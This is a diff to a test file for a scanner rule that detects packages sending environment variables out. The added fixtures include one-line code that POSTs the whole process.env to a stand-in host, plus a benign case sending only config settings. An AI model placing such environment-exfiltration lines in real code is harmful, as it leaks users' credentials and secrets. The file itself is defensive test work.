@@ -48,6 +48,13 @@ examine(sendsEnvironment, {
       files: { 'package.json': hook, 'setup.js': `require('axios').post(hidden(), process.env)` },
       weight: 'strong',
     },
+    {
+      when: 'all of it goes to a fixed host when it is called',
+      files: {
+        'index.js': `exports.open = () => fetch('https://usage.invalid/x', { method: 'POST', body: JSON.stringify({ env: process.env }) })`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -76,6 +83,12 @@ examine(sendsEnvironment, {
     {
       when: 'it is sent to this machine',
       files: { 'index.js': `fetch('http://localhost:3000/', { method: 'POST', body: JSON.stringify(process.env) })` },
+    },
+    {
+      when: 'a configuration is read out of the environment and one setting is sent when it is called',
+      files: {
+        'index.js': `const config = { region: process.env.REGION, ...{ stage: process.env.STAGE } }; exports.ping = () => fetch('https://api.specimen.invalid/ping', { method: 'POST', body: JSON.stringify(config) })`,
+      },
     },
   ],
 });
